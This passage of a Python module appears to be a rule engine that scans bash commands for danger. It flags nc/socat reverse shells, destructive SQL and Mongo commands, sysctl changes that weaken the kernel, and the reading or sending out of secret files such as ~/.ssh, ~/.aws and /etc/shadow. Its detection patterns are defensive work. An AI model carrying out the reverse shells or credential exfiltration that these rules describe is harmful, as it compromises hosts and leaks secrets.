                    self.emit("bash.eval_dynamic", cmd.line, "psql -c runs SQL known only at run time")
                else:
                    self.sink.embedded(word.text, "sql", cmd.line, "psql -c")
            elif a.startswith("--command="):
                self.sink.embedded(a.split("=", 1)[1], "sql", cmd.line, "psql --command")
        if cmd.stdin_text is not None or (cmd.upstream and not cmd.has_flag("-c", "--command")):
            self._stdin_code(cmd, "sql")

    def _cmd_mysql(self, cmd: Command) -> None:
        code = None
        for i, a in enumerate(cmd.argv):
            if a in ("-e", "--execute") and i + 1 < len(cmd.argv):
                code = cmd.argv[i + 1]
        code = code or cmd.stdin_text
        if code and re.search(
            r"\b(DROP\s+(DATABASE|TABLE|SCHEMA)|TRUNCATE)\b|\bDELETE\s+FROM\s+\w+\s*;?\s*$", code, re.I
        ):
            self.emit("bash.destructive_cli", cmd.line, f"mysql runs destructive SQL: {code[:60]!r}")

    _cmd_mariadb = _cmd_mysql

    def _cmd_mongo(self, cmd: Command) -> None:
        code = " ".join(cmd.argv) + (cmd.stdin_text or "")
        if re.search(r"dropDatabase|\.drop\(\)|deleteMany\(\{\}\)", code):
            self.emit("bash.destructive_cli", cmd.line, "mongo drops data")

    _cmd_mongosh = _cmd_mongo

    def _cmd_sysctl(self, cmd: Command) -> None:
        for a in cmd.argv:
            key, _, value = a.partition("=")
            if (
                (key == "kernel.randomize_va_space" and value.strip() == "0")
                or (key == "fs.suid_dumpable" and value in ("1", "2"))
                or (key in ("kernel.modules_disabled",) and value == "0")
                or (key == "kernel.yama.ptrace_scope" and value == "0")
            ):
                self.emit("bash.kernel_security", cmd.line, f"sysctl {a} weakens kernel hardening")

    def _cmd_insmod(self, cmd: Command) -> None:
        if any(a.text.startswith(("/tmp", "/dev/shm", "/var/tmp")) or a.dynamic for a in cmd.operands()):
            self.emit("bash.kernel_security", cmd.line, "loads a kernel module from a temporary location", H)

    def _cmd_modprobe(self, cmd: Command) -> None:
        if cmd.has_flag("-r") and any(m in cmd.argv for m in ("ip_tables", "nf_tables", "iptable_filter")):
            self.emit("bash.firewall_disable", cmd.line, "unloads the firewall kernel modules")

    def _packages(self, cmd: Command, remove_verbs: tuple[str, ...]) -> None:
        ops = [a.text for a in cmd.operands()]
        if not ops or ops[0] not in remove_verbs:
            return
        bad = [
            p
            for p in ops[1:]
            if p.split("=")[0].split(":")[0] in ESSENTIAL_PACKAGES or p.startswith(("linux-image", "openssh"))
        ]
        if bad:
            self.emit("bash.package_remove_critical", cmd.line, f"{cmd.name} {ops[0]} removes {', '.join(bad)}")

    def _cmd_apt_get(self, cmd: Command) -> None:
        self._packages(cmd, ("remove", "purge", "autoremove"))

    _cmd_apt = _cmd_apt_get

    def _cmd_yum(self, cmd: Command) -> None:
        self._packages(cmd, ("remove", "erase", "autoremove"))

    _cmd_dnf = _cmd_yum

    def _cmd_rpm(self, cmd: Command) -> None:
        if cmd.has_flag("-e", "--erase"):
            ops = [a for a in cmd.operands()]
            self._packages(
                Command(name="rpm", args=[Word("remove", "", cmd.line), *ops], line=cmd.line, name_word=cmd.name_word),
                ("remove",),
            )
            if "--nodeps" in cmd.argv and not [o for o in ops]:
                return

    def _cmd_dpkg(self, cmd: Command) -> None:
        if cmd.has_flag("-r", "-P", "--remove", "--purge"):
            self._packages(
                Command(
                    name="dpkg",
                    args=[Word("remove", "", cmd.line), *cmd.operands()],
                    line=cmd.line,
                    name_word=cmd.name_word,
                ),
                ("remove",),
            )

    def _cmd_nc(self, cmd: Command) -> None:
        if cmd.has_flag("-e", "-c") or any(
            a in ("--sh-exec", "--exec", "--lua-exec") or a.startswith(("--sh-exec=", "--exec=")) for a in cmd.argv
        ):
            self.emit("bash.reverse_shell", cmd.line, f"{cmd.name} -e hands a shell to a network peer")
        elif cmd.upstream and any(_shell_kind(u.name) == "bash" for u in cmd.upstream):
            self.emit("bash.reverse_shell", cmd.line, f"a shell's output is piped into {cmd.name}")
        self._exfil(cmd)

    _cmd_ncat = _cmd_nc
    _cmd_netcat = _cmd_nc

    def _cmd_socat(self, cmd: Command) -> None:
        if any(re.match(r"(?i)^(exec|system):", a) for a in cmd.argv):
            self.emit("bash.reverse_shell", cmd.line, "socat exec/system connects a program to a socket")
        self._exfil(cmd)

    def _cmd_telnet(self, cmd: Command) -> None:
        self._exfil(cmd)

    def _cmd_ssh(self, cmd: Command) -> None:
        ops = cmd.operands()
        option_values = {
            "-i",
            "-p",
            "-l",
            "-o",
            "-F",
            "-J",
            "-L",
            "-R",
            "-D",
            "-W",
            "-b",
            "-c",
            "-E",
            "-m",
            "-S",
            "-O",
            "-Q",
            "-w",
            "-B",
            "-e",
            "-I",
        }
        positional: list[Word] = []
        skip = False
        for a in cmd.args:
            if skip:
                skip = False
                continue
            if a.text in option_values:
                skip = True
                continue
            if a.text.startswith("-"):
                continue
            positional.append(a)
        del ops
        if len(positional) >= 2:
            remote = " ".join(w.text for w in positional[1:])
            self.emit("bash.remote_command", cmd.line, f"ssh runs '{remote[:60]}' on {positional[0].text}")
            self.sink.embedded(remote, "bash", cmd.line, f"ssh {positional[0].text}")
        self._exfil(cmd)

    def _cmd_scp(self, cmd: Command) -> None:
        self._exfil(cmd)

    _cmd_sftp = _cmd_scp

    def _cmd_curl(self, cmd: Command) -> None:
        argv = cmd.argv
        for i, a in enumerate(argv):
            if a in ("-o", "--output") and i + 1 < len(argv):
                self.sink.downloads.add(normalise_path(argv[i + 1]))
            if a in ("-K", "--config") and i + 1 < len(argv) and argv[i + 1] == "-":
                pass
        self._exfil(cmd)

    def _cmd_wget(self, cmd: Command) -> None:
        argv = cmd.argv
        for i, a in enumerate(argv):
            if a in ("-O", "--output-document") and i + 1 < len(argv) and argv[i + 1] != "-":
                self.sink.downloads.add(normalise_path(argv[i + 1]))
            elif a.startswith("--output-document="):
                self.sink.downloads.add(normalise_path(a.split("=", 1)[1]))
            elif a.startswith("-O") and len(a) > 2 and a[2:] != "-":
                self.sink.downloads.add(normalise_path(a[2:]))
        if cmd.has_flag("--post-file", "--body-file"):
            self._exfil(cmd)
        self._exfil(cmd)

    def _cmd_printenv(self, cmd: Command) -> None:
        if not cmd.operands():
            self.emit(
                "bash.secret_read",
                cmd.line,
                f"{cmd.name} dumps every environment variable (tokens, passwords) into the run log",
                M,
            )

    def _cmd_env(self, cmd: Command) -> None:
        if not cmd.args:
            self._cmd_printenv(cmd)

    def _cmd_export(self, cmd: Command) -> None:
        if cmd.argv == ["-p"]:
            self._cmd_printenv(cmd)

    def _cmd_read(self, cmd: Command) -> None:
        for op in cmd.operands():
            if op.text in ("BASH_ENV", "ENV", "LD_PRELOAD", "PROMPT_COMMAND"):
                self.emit("bash.env_injection", cmd.line, f"read sets {op.text} from input")

    def _cmd_printf(self, cmd: Command) -> None:
        if (
            len(cmd.args) >= 2
            and cmd.args[0].text == "-v"
            and cmd.args[1].text in ("BASH_ENV", "ENV", "LD_PRELOAD", "PROMPT_COMMAND")
        ):
            self.emit("bash.env_injection", cmd.line, f"printf -v sets {cmd.args[1].text}")

    def _cmd_declare(self, cmd: Command) -> None:
        return

    def _cmd_alias(self, cmd: Command) -> None:
        for arg in cmd.args:
            key, sep, value = arg.text.partition("=")
            if sep and value.strip():
                self.sink.embedded(value, "bash", cmd.line, f"alias {key}")

    def _cmd_mkfifo(self, cmd: Command) -> None:
        return

    def _cmd_xargs(self, cmd: Command) -> None:
        return

    def _cmd_busybox(self, cmd: Command) -> None:
        return

    def _cmd_su(self, cmd: Command) -> None:
        for i, a in enumerate(cmd.argv):
            if a in ("-c", "--command") and i + 1 < len(cmd.args):
                word = cmd.args[i + 1]
                if word.dynamic:
                    self.emit("bash.eval_dynamic", cmd.line, "su -c runs text known only at run time")
                else:
                    self.sink.embedded(word.text, "bash", cmd.line, "su -c")

    def _cmd_runuser(self, cmd: Command) -> None:
        self._cmd_su(cmd)

    # -- secrets and exfiltration -------------------------------------------------------------
    def _secrets(self, cmd: Command) -> None:
        if cmd.name in (
            "chmod",
            "chown",
            "chgrp",
            "ls",
            "stat",
            "test",
            "[",
            "[[",
            "ssh-keygen",
            "ssh-add",
            "ssh",
            "install",
            "file",
            "touch",
            "rm",
            "shred",
            "getfacl",
            "setfacl",
            "restorecon",
            "chcon",
            "mkdir",
        ):
            return
        for arg in cmd.args:
            text = (
                arg.text[arg.text.index("@") + 1 :]
                if "@" in arg.text[:12] and cmd.name in ("curl", "http")
                else arg.text
            )
            if text.startswith("if="):
                text = text[3:]
            if "=" in text and text.split("=", 1)[1].startswith(("/", "~", "@")):
                text = text.split("=", 1)[1].lstrip("@")
            if is_secret_path(text):
                self.emit("bash.secret_read", cmd.line, f"{cmd.name} reads {normalise_path(text)}")
                return

    def _exfil(self, cmd: Command) -> None:
        """A network sender fed with secrets: in its arguments (@file) or from earlier pipeline stages."""
        for arg in cmd.args:
            text = arg.text
            candidates = [text]
            if "@" in text:
                candidates.append(text.split("@", 1)[1])
            if text.startswith("--") and "=" in text:
                candidates.append(text.split("=", 1)[1].lstrip("@"))
            for cand in candidates:
                if (cand and is_secret_path(cand)) or (
                    cmd.name in ("scp", "rsync", "sftp")
                    and any(
                        normalise_path(cand).startswith(d) and len(normalise_path(cand)) > 1
                        for d in ("~/.ssh", "/root/.ssh", "~/.aws", "/etc/shadow")
                    )
                ):
                    self.emit("bash.exfiltration", cmd.line, f"{cmd.name} sends {normalise_path(cand)} off the host")
                    return
        if not cmd.upstream:
            return
        for up in cmd.upstream:
            reads_secret = any(is_secret_path(a.text) for a in up.args)
            dumps_env = (up.name in ("printenv", "env", "set", "export") and not up.operands() and not up.args) or (
                up.name == "env" and not up.args
            )
            archives_secret = up.name in ("tar", "zip", "cat", "base64", "gzip", "xxd") and any(
                normalise_path(a.text) in SENSITIVE_DIRS
                or normalise_path(a.text).startswith(("~/.ssh", "/root/.ssh", "~/.aws", "/etc/ssl/private"))
                or is_secret_path(a.text)
                for a in up.args
            )
            if reads_secret or dumps_env or archives_secret:
                self.emit(
                    "bash.exfiltration",
                    cmd.line,
                    f"{up.name} output with secrets is sent over the network by {cmd.name}",
                )
                return

    # -- side effects -------------------------------------------------------------------------
    def _side_effects(self, cmd: Command) -> None:
        effect = describe(cmd)
        if effect:
            self.sink.side_effect(effect)


_DANGEROUS_NAMES = {
    "rm",
    "dd",
    "mkfs",
    "shred",
    "wipefs",
    "curl",
    "wget",
    "nc",
    "bash",
    "sh",
    "python",
    "python3",
    "chmod",
    "chown",
    "kill",
    "reboot",
    "shutdown",
    "eval",
    "base64",
    "socat",
    "iptables",
    "find",
}


def describe(cmd: Command) -> str | None:
    """One human line for what a command changes; None for read-only commands."""
    argv = [a.text.replace(SPLIT, " ").replace(UNKNOWN, "…") for a in cmd.args]
    ops = [a.text.replace(UNKNOWN, "…") for a in cmd.operands()]
    name = cmd.name
    if name == "rm" and ops:
        return f"deletes {' '.join(ops)[:120]}" + (" recursively" if cmd.has_flag("-r", "-R", "--recursive") else "")
    if name == "find" and ("-delete" in argv or "-exec" in argv):
        root = next((a for a in argv if not a.startswith("-")), ".")
        preds = []
        for flag, label in (
            ("-name", "named"),
            ("-iname", "named"),
            ("-mtime", "modified"),
            ("-mmin", "modified (min)"),
        ):
            if flag in argv and argv.index(flag) + 1 < len(argv):
                value = argv[argv.index(flag) + 1]
                if flag == "-mtime" and value.startswith("+"):
                    preds.append(f"older than {value[1:]} days")
                else:
                    preds.append(f"{label} {value}")
        return f"deletes files under {root}" + (f" {' and '.join(preds)}" if preds else "")
    if (
        name in ("systemctl",)
        and len(ops) >= 2
        and ops[0]
        in (
            "restart",
            "reload",
            "stop",
            "start",
            "enable",
            "disable",
            "mask",
            "unmask",
            "try-restart",
            "reload-or-restart",
            "kill",
        )
    ):
        verb = {
            "restart": "restarts",
            "reload": "reloads",
            "stop": "stops",
            "start": "starts",
            "enable": "enables",
            "disable": "disables",
            "mask": "masks",
            "unmask": "unmasks",
            "try-restart": "restarts",
            "reload-or-restart": "reloads or restarts",
            "kill": "kills",
        }[ops[0]]
        return f"{verb} systemd unit {' '.join(ops[1:])}"
    if name == "service" and len(ops) >= 2:
        return f"{ops[1]}s service {ops[0]}"
    if name == "kubectl" and ops:
        if ops[0] in (
            "rollout",
            "scale",
            "delete",
            "apply",
            "create",
            "replace",
            "patch",
            "set",
            "drain",
            "cordon",
            "uncordon",
            "annotate",
            "label",
            "edit",
            "cp",
            "exec",
            "taint",
            "autoscale",
        ):
            return f"kubectl {' '.join(argv)[:120]}"
        return None
    if name == "helm" and ops and ops[0] in ("rollback", "upgrade", "install", "uninstall", "delete"):
        return f"helm {' '.join(argv)[:120]}"
    if name in ("truncate",) and ops:
        return f"truncates {' '.join(ops)}"
    if name in ("chmod", "chown", "chgrp") and len(ops) >= 2:
        return f"{name} {ops[0]} on {' '.join(ops[1:])}"
    if name in ("kill", "pkill", "killall") and argv:
        return f"signals processes: {name} {' '.join(argv)[:80]}"
    if name in ("iptables", "ip6tables", "ufw", "nft", "firewall-cmd"):
        return f"changes firewall: {name} {' '.join(argv)[:80]}"
    if name == "journalctl" and any(a.startswith("--vacuum") for a in argv):
        return f"vacuums the systemd journal ({' '.join(a for a in argv if a.startswith('--vacuum'))})"
    if (
        name in ("docker", "podman")
        and ops
        and ops[0] in ("restart", "stop", "rm", "prune", "system", "image", "container", "volume", "kill", "start")
    ):
        return f"{name} {' '.join(argv)[:100]}"
    if (
        name in ("apt-get", "apt", "yum", "dnf", "pip", "pip3")
        and ops
        and ops[0] in ("install", "remove", "purge", "upgrade", "update")
    ):
        return f"{name} {' '.join(argv)[:100]}"
    if name == "sysctl" and any("=" in a for a in argv):
        return f"sets kernel parameters {' '.join(a for a in argv if '=' in a)}"
    if name in ("mkswap", "swapon", "swapoff", "dd", "fallocate", "mount", "umount"):
        return f"{name} {' '.join(argv)[:100]}"
    if name in ("cp", "mv", "ln", "install", "rsync", "tee", "sed", "mkdir", "touch") and ops:
        if name == "sed" and not cmd.has_flag("-i", "--in-place"):
            return None
        if name == "tee":
            return f"writes {' '.join(ops)}"
        return f"{name} {' '.join(argv)[:100]}"
    if name in ("logrotate",):
        return f"rotates logs ({' '.join(argv)})"
    for redirect in cmd.redirects:
        if redirect.op in (">", ">>", "&>", ">|") and redirect.target is not None:
            target = redirect.target.text
            if target not in ("/dev/null", "/dev/stderr", "/dev/stdout") and not target.isdigit():
                return f"{'appends to' if redirect.op == '>>' else 'writes'} {target}"
    return None


def scope_catalogue_markdown() -> str:
    """The "Access scope rules" section of docs/rules/bash.md, written from :data:`SCOPE_RULES`.

    Regenerate with ``python -m remediation.validation.bash_rules``; tests/validation/test_scope.py checks
    that the document holds this text.
    """

    def cell(text: str) -> str:
        return text.replace("|", "\\|")

    lists = ", ".join(
        f"{name}={getattr(SCOPE_EXAMPLE_CONTEXT, name)!r}"
        for name in ("allowed_paths", "allowed_hosts", "allowed_namespaces", "allowed_databases")
    )
    lines = [
        "## Access scope rules",
        "",
        "Compared with the service's allow-lists (`remediation/validation/bash_scope.py`); a list left empty",
        "means no restriction is known and its rule stays silent. A path, host, namespace or database known only",
        "at run time in one of these positions fires the same rule (fail closed). Examples are checked with",
        f"{lists}.",
        "",
        "| rule_id | severity | what it catches | example (matches) | does not match |",
        "| --- | --- | --- | --- | --- |",
    ]
    for rule_id, spec in SCOPE_RULES.items():
        lines.append(
            f"| `{rule_id}` | {spec.severity.value} | {cell(spec.summary)} Fix: {cell(spec.hint)} | "
            f"`{cell(spec.match[0])}` | `{cell(spec.not_match[0])}` |"
        )
    return "\n".join(lines) + "\n"


if __name__ == "__main__":  # python -m remediation.validation.bash_rules  (the scope section of docs/rules/bash.md)
    print(scope_catalogue_markdown(), end="")
